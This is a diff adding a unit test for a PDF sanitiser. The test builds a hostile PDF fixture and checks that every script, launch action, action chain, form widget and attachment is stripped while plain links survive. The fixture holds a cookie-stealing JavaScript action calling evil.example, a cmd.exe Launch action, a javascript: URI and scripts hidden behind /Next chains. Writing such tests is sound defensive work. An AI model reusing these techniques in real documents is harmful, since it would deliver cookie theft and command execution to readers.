@@ -73,6 +73,58 @@ function everything(doc: PDFDocument): { names: Set<string>; texts: string[] } {
   return { names, texts };
 }
 
+/** A script no output may carry, as the text of a JavaScript action. */
+const SCRIPT = 'app.launchURL("https://evil.example/steal?c=" + this.cookie)';
+
+/**
+ * A PDF whose links hide actions behind harmless-looking ones: on page 1 a URI link whose /Next
+ * is a JavaScript action (direct), one whose /Next is a reference to one, one whose /Next is an
+ * array of actions, a chain three deep (URI → GoTo → URI → JavaScript), a Launch link, a form
+ * widget with a script and a file attachment; page 2 runs a script when opened (/AA). Plus
+ * the links that must survive: a plain https link and a jump to page 2.
+ */
+async function hostilePdf(): Promise<{ input: Buffer; pages: number }> {
+  const doc = await PDFDocument.create();
+  const font = await doc.embedFont(StandardFonts.Helvetica);
+  const [first, second] = [doc.addPage([300, 300]), doc.addPage([300, 300])];
+  first.drawText('Lampiran laporan', { x: 20, y: 250, font, size: 10 });
+  second.drawText('Halaman dua', { x: 20, y: 250, font, size: 10 });
+  const { context } = doc;
+  const js = () => context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(SCRIPT) });
+  const uri = (address: string, next?: PDFObject) =>
+    context.obj({ S: 'URI', URI: PDFString.of(address), ...(next ? { Next: next } : {}) }) as PDFDict;
+  const link = (y: number, action: PDFObject) =>
+    context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, y, 50, y + 10], A: action }));
+  // The script as a stream, as producers write long ones.
+  const scriptStream = context.register(context.stream(SCRIPT));
+  const chain = uri('https://a.example', context.obj({ S: 'GoTo', D: [second.ref, 'Fit'], Next: uri('https://b.example', js()) }));
+  const annotations = [
+    link(0, uri('https://direct.example', js())),
+    link(20, uri('https://indirect.example', context.register(context.obj({ S: 'JavaScript', JS: scriptStream })))),
+    link(40, uri('https://array.example', context.obj([uri('https://ok.example'), js(), context.register(js())]))),
+    link(60, chain),
+    link(80, context.obj({ S: 'Launch', F: PDFString.of('cmd.exe'), Win: { F: PDFString.of('cmd.exe') } })),
+    link(100, uri('javascript:alert(1)')),
+    context.register(
+      context.obj({ Type: 'Annot', Subtype: 'Widget', FT: 'Tx', T: PDFString.of('nama'), Rect: [0, 120, 50, 130], AA: { K: js() } }),
+    ),
+    context.register(
+      context.obj({
+        Type: 'Annot',
+        Subtype: 'FileAttachment',
+        Rect: [0, 140, 50, 150],
+        FS: { Type: 'Filespec', F: PDFString.of('ktp.txt'), EF: { F: context.register(context.stream(`KTP ${NAME}`)) } },
+      }),
+    ),
+    // What must survive.
+    link(200, uri('https://semarangkota.go.id/aspirasi')),
+    link(220, context.obj({ S: 'GoTo', D: [second.ref, 'XYZ', 0, 300, 0] })),
+  ];
+  first.node.set(PDFName.of('Annots'), context.obj(annotations));
+  second.node.set(PDFName.of('AA'), context.obj({ O: js(), C: context.register(js()) }));
+  return { input: Buffer.from(await doc.save({ useObjectStreams: false })), pages: 2 };
+}
+
 async function refusal(input: Buffer): Promise<string | undefined> {
   try {
     await sanitisePdf(input);
@@ -109,6 +161,44 @@ describe('sanitisePdf', () => {
     expect(after.names.has('/Helvetica')).toBe(true);
     expect(after.texts.some((text) => /\bTj\b/.test(text))).toBe(true);
     expect(after.names.has('/Link')).toBe(true);
+  });
+
+  it('removes every action chain and active annotation, keeping plain links and jumps within the document', async () => {
+    const { input } = await hostilePdf();
+    const before = everything(await PDFDocument.load(input));
+    for (const key of ['/JavaScript', '/JS', '/Launch', '/Next', '/AA', '/Widget', '/FileAttachment'])
+      expect(before.names.has(key)).toBe(true);
+    expect(before.texts.join('\n')).toContain(SCRIPT);
+
+    // Parsed again (the output packs its objects in compressed object streams) and walked whole.
+    const parsed = await PDFDocument.load(await sanitisePdf(input), { updateMetadata: false });
+    const after = everything(parsed);
+    for (const key of ['/JavaScript', '/JS', '/Launch', '/Next', '/AA', '/OpenAction', '/Widget', '/FileAttachment', '/EF'])
+      expect([key, after.names.has(key)]).toEqual([key, false]);
+    const texts = after.texts.join('\n');
+    expect(texts).not.toContain('evil.example');
+    expect(texts).not.toContain('cmd.exe');
+    expect(texts).not.toContain(NAME);
+    expect(texts).not.toContain('javascript:');
+
+    // The links left: each URI link keeps its own http(s) address, the jump still lands on page 2.
+    expect(parsed.getPageCount()).toBe(2);
+    const actions = (parsed.getPage(0).node.lookup(PDFName.of('Annots'), PDFArray).asArray() as PDFRef[])
+      .map((ref) => parsed.context.lookup(ref, PDFDict).lookupMaybe(PDFName.of('A'), PDFDict))
+      .filter((action): action is PDFDict => action !== undefined);
+    const uris = actions
+      .filter((action) => String(action.get(PDFName.of('S'))) === '/URI')
+      .map((action) => action.lookup(PDFName.of('URI'), PDFString).decodeText());
+    expect(uris.sort()).toEqual([
+      'https://a.example',
+      'https://array.example',
+      'https://direct.example',
+      'https://indirect.example',
+      'https://semarangkota.go.id/aspirasi',
+    ]);
+    const jumps = actions.filter((action) => String(action.get(PDFName.of('S'))) === '/GoTo');
+    expect(jumps).toHaveLength(1);
+    expect(jumps[0].lookup(PDFName.of('D'), PDFArray).get(0)).toBe(parsed.getPage(1).ref);
   });
 
   it('leaves no earlier revision behind', async () => {
